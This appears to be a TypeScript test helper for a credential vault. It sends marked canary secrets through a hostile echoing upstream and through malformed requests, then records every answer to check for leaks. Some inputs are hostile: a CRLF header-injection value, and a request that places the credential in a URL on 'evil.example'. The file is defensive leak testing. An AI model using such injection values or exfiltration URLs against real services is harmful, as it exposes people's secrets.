import { once } from 'node:events';
import { connect } from 'node:net';
import type { ServerResponse } from 'node:http';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { type AppTenant, expectStatus, MASTER_PASSWORD } from '../support/app.js';
import { eventually } from '../support/eventually.js';
import { DpopAgent } from '../support/dpop-agent.js';
import type { Fleet, FleetNode } from '../support/fleet/fleet.js';
import { UPSTREAM_HOST as H } from '../support/hostile-upstream.js';
import type { AskedUse, UseDoor, UseOptions } from '../support/use-door.js';
import { SPELLINGS } from './spellings.js';

const reason = 'test';
const at = (target: string): string => `https://${H}${target}`;

/** Everything a server does with secrets, the right and the wrong way round, with a marker in each of them. */
export class CanaryTraffic {
  /** What came back, whole. */
  readonly answers: string[] = [];
  #secrets = 0;

  private constructor(
    private readonly fleet: Fleet,
    private readonly node: FleetNode,
    private readonly tenant: AppTenant,
    private readonly agent: DpopAgent,
    private readonly marker: string,
  ) {}

  static async begin(fleet: Fleet, node: FleetNode, marker: string, witness: string): Promise<CanaryTraffic> {
    const tenant = await fleet.newTenant(node);
    const made = await tenant.admin<{ id: string; api_key: string }>('POST', '/v1/agents', { name: 'canary' });
    expectStatus(made, 201);
    expectStatus(await tenant.human('POST', `/v1/agents/${made.body.id}/promote`, { tier: 'PARTNER', reason }), 200);
    const agent = new DpopAgent(node.process.at.tenant, made.body.id, made.body.api_key);
    expectStatus(await agent.token(), 200);
    const traffic = new CanaryTraffic(fleet, node, tenant, agent, marker);
    await traffic.#store(witness, { value: traffic.#secret() });
    return traffic;
  }

  /** How many secrets were given to the server. */
  get sent(): number {
    return this.#secrets;
  }

  async run(door: UseDoor): Promise<void> {
    const own = (name: string): string => `${name}_${door.name}`;
    await this.#store(own('key'), { value: this.#secret() });
    await this.#store(own('broken'), { value: `${this.#secret()}\r\nX-Injected: yes` });
    await this.#store(own('quoted'), { value: `"${this.#secret()}\\&<é>` });
    await this.#store(own('pair'), { fields: { username: this.#secret(), password: this.#secret() } });
    await this.#uses(door, own('key'), own('quoted'), own('pair'));
    await this.#echoes(door, own('key'));
    await this.#failures(door, own('key'), own('broken'));
    await this.#changes(door, own('key'));
    await this.#mistakes(own('key'));
    await this.#cuts(door, own('key'));
  }

  /** Outcomes are written behind the answers; idle connections and timers come to rest. */
  async settle(): Promise<void> {
    expectStatus(await this.node.staff('POST', '/v1/vault/seal', { reason }), 200);
    expectStatus(await this.node.staff('POST', '/v1/vault/unseal', { password: MASTER_PASSWORD }), 200);
    for (const path of ['/v1/credentials', '/v1/audit/entries?limit=200', '/v1/audit/verification', '/v1/brakes'])
      this.#note(await this.tenant.admin('GET', path));
    await eventually(
      () => this.tenant.admin<{ data: { outcome: string }[] }>('GET', '/v1/audit/entries?limit=1&order=desc'),
      ({ body }) => body.data.length > 0,
    );
  }

  async auditExport(): Promise<string> {
    const answer = await fetch(`${this.node.process.at.tenant}/v1/audit/export`, {
      headers: { authorization: `Bearer ${this.tenant.key}` },
    });
    return answer.text();
  }

  async #uses(door: UseDoor, key: string, quoted: string, pair: string): Promise<void> {
    const post = (type: string, body: unknown): AskedUse => ({
      method: 'POST',
      headers: { 'content-type': type },
      body,
    });
    for (const name of [key, quoted]) {
      await this.#use(door, name, name === quoted ? { url: at('/?k={{CREDENTIAL}}'), headers: {} } : {});
      await this.#use(door, name, { url: at('/a/{{CREDENTIAL}}/b'), headers: {} });
      await this.#use(door, name, post('application/json', '{"k":"{{CREDENTIAL}}"}'));
      await this.#use(door, name, { method: 'POST', headers: {}, body: { k: '{{CREDENTIAL}}' } });
      await this.#use(door, name, post('application/x-www-form-urlencoded', 'k={{CREDENTIAL}}'));
      await this.#use(door, name, post('text/plain', 'k {{CREDENTIAL}}'));
    }
    await this.#use(door, pair, { headers: { authorization: 'Basic {{CREDENTIAL.basic}}' } });
    await this.#use(door, pair, { headers: { a: '{{CREDENTIAL.username}}', b: '{{CREDENTIAL.password}}' } });
  }

  /** The upstream hands back what it got: spelled in every way, coded, dripped, in headers, with a failure. */
  async #echoes(door: UseDoor, key: string): Promise<void> {
    const { upstream } = this.fleet;
    const got = () => String(upstream.received.at(-1)?.headers.authorization).slice('Bearer '.length);
    for (const [, write] of SPELLINGS) {
      upstream.on('/echo', (_, response) => response.setHeader('x-echo', write(got())).end(`before ${write(got())}`));
      await this.#use(door, key, { url: at('/echo') });
    }
    const coded = { gzip: gzipSync, br: brotliCompressSync };
    for (const [coding, compress] of Object.entries(coded)) {
      upstream.on('/coded', (_, response) => response.setHeader('content-encoding', coding).end(compress(got())));
      await this.#use(door, key, { url: at('/coded') });
    }
    upstream.on('/drip', (_, response) => void drip(response, `a ${got()} b ${got().slice(0, 8)}`));
    await this.#use(door, key, { url: at('/drip') });
    upstream.on('/moved', (_, response) =>
      response.writeHead(302, `Moved ${got()}`, { location: `/?k=${got()}` }).end(got()),
    );
    await this.#use(door, key, { url: at('/moved') });
  }

  async #failures(door: UseDoor, key: string, broken: string): Promise<void> {
    const { upstream } = this.fleet;
    await this.#use(door, broken);
    upstream.on('/reset', ({ socket }) => socket.destroy());
    upstream.on('/noise', ({ socket, headers }) => socket.end(`${headers.authorization} is no HTTP`));
    upstream.on('/cut', ({ headers }, response) =>
      response.write(`{"k":"${headers.authorization}`, () => response.destroy()),
    );
    upstream.on('/rot13', ({ headers }, response) =>
      response.setHeader('content-encoding', 'rot13').end(headers.authorization),
    );
    upstream.on('/badzip', ({ headers }, response) =>
      response.setHeader('content-encoding', 'gzip').end(headers.authorization),
    );
    for (const target of ['/reset', '/noise', '/cut', '/rot13', '/badzip'])
      await this.#use(door, key, { url: at(target) });
    upstream.hangOn('/hang');
    await this.#use(door, key, { url: at('/hang') }, { timeoutMs: 100 });
    await this.#use(door, key, { url: 'https://evil.example/{{CREDENTIAL}}' });
    await this.#use(door, key, { url: `https://{{CREDENTIAL}}@${H}/` });
    await this.#use(door, 'nowhere');
  }

  async #changes(door: UseDoor, key: string): Promise<void> {
    const { admin } = this.tenant;
    this.#note(await admin('POST', `/v1/credentials/${key}/rotate`, { value: this.#secret(), grace_seconds: 60 }));
    await this.#use(door, key);
    await this.#use(door, key, {}, { version: 1 });
    this.#note(await admin('PUT', `/v1/credentials/${key}/binding`, { allowed_domains: [H, 'other.example'] }));
    await this.#use(door, key);
    this.#note(await admin('PATCH', `/v1/credentials/${key}`, { minimum_tier: 'NOVICE' }));
    const gone = `gone_${door.name}`;
    await this.#store(gone, { value: this.#secret() });
    this.#note(await admin('DELETE', `/v1/credentials/${gone}`));
  }

  /** A secret in a request that is refused must not come back in the refusal, nor stay anywhere. */
  async #mistakes(key: string): Promise<void> {
    const { admin } = this.tenant;
    const value = this.#secret();
    const wrong: unknown[] = [
      { name: key, value, allowed_domains: [H] },
      { name: 'wrong_domain', value, allowed_domains: [`${value}.com/`] },
      { name: value.toUpperCase(), value, allowed_domains: [H] },
      { name: 'wrong_field', value, allowed_domains: [H], [value]: value },
      { name: 'wrong_type', value: { value }, allowed_domains: [H] },
      { name: 'two_values', value, fields: { username: value }, allowed_domains: [H] },
      { name: 'field_name', fields: { [value]: value }, allowed_domains: [H] },
      [value],
      value,
    ];
    for (const body of wrong) this.#note(await admin('POST', '/v1/credentials', body));
    const again = { 'idempotency-key': `key-${this.#secrets}` };
    const good = { name: `again_${this.#secrets}`, value, allowed_domains: [H] };
    for (const body of [good, good, { ...good, value: this.#secret() }])
      this.#note(await admin('POST', '/v1/credentials', body, again));
    for (const text of [`{"name":"x","value":"${value}`, `{"value":"${value}","value":"${value}"}`, value])
      this.answers.push(await this.#raw(text, text.length));
    this.answers.push(await this.#raw(`{"name":"x","value":"${value}`, 2_000));
  }

  /** The agent and the node go apart while a call is under way. */
  async #cuts(door: UseDoor, key: string): Promise<void> {
    const { upstream } = this.fleet;
    const use = this.#use(door, key, { url: at('/hang') });
    await eventually(
      () => upstream.hanging,
      (hanging) => hanging > 0,
    );
    const brake = { scope: 'credential', credential_name: key, reason };
    const { body } = await this.tenant.admin<{ id: string }>('POST', '/v1/brakes', brake);
    await use;
    await this.#use(door, key);
    this.#note(await this.tenant.human('POST', `/v1/brakes/${body.id}/clear`, { reason }));
    upstream.letGo();
  }

  #secret(): string {
    this.#secrets += 1;
    return `sk${this.#secrets}${this.marker}end`;
  }

  async #store(name: string, secret: Readonly<Record<string, unknown>>): Promise<void> {
    const body = { name, ...secret, allowed_domains: [H] };
    const stored = await this.tenant.admin('POST', '/v1/credentials', body);
    expectStatus(stored, 201);
    this.#note(stored);
    expectStatus(await this.tenant.admin('PUT', `/v1/credentials/${name}/grants/${this.agent.id}`), 200);
  }

  async #use(door: UseDoor, name: string, asked: AskedUse = {}, options: UseOptions = {}): Promise<void> {
    const { status, code, headers, body, reason: text } = await door.use(this.agent, name, asked, options);
    this.answers.push(JSON.stringify([door.name, asked.url, status, code, text, headers]), body.toString('latin1'));
  }

  #note({ status, headers, body }: { status: number; headers: Headers; body: unknown }): void {
    this.answers.push(JSON.stringify([status, [...headers], body]));
  }

  /** A body that is no JSON, or that breaks off before the length it announces. */
  async #raw(body: string, length: number): Promise<string> {
    const { hostname, port } = new URL(this.node.process.at.tenant);
    const socket = connect(Number(port), hostname);
    await once(socket, 'connect');
    const lines = [
      'POST /v1/credentials HTTP/1.1',
      `host: ${hostname}:${port}`,
      `authorization: Bearer ${this.tenant.key}`,
    ];
    const more = ['content-type: application/json', `content-length: ${length}`, 'connection: close'];
    socket.end(`${[...lines, ...more].join('\r\n')}\r\n\r\n${body}`);
    let text = '';
    socket.on('data', (piece: Buffer) => (text += piece.toString('latin1'))).on('error', () => undefined);
    await once(socket, 'close');
    return text;
  }
}

async function drip(response: ServerResponse, text: string): Promise<void> {
  for (const char of text) {
    response.write(char);
    await new Promise(setImmediate);
  }
  response.end();
}
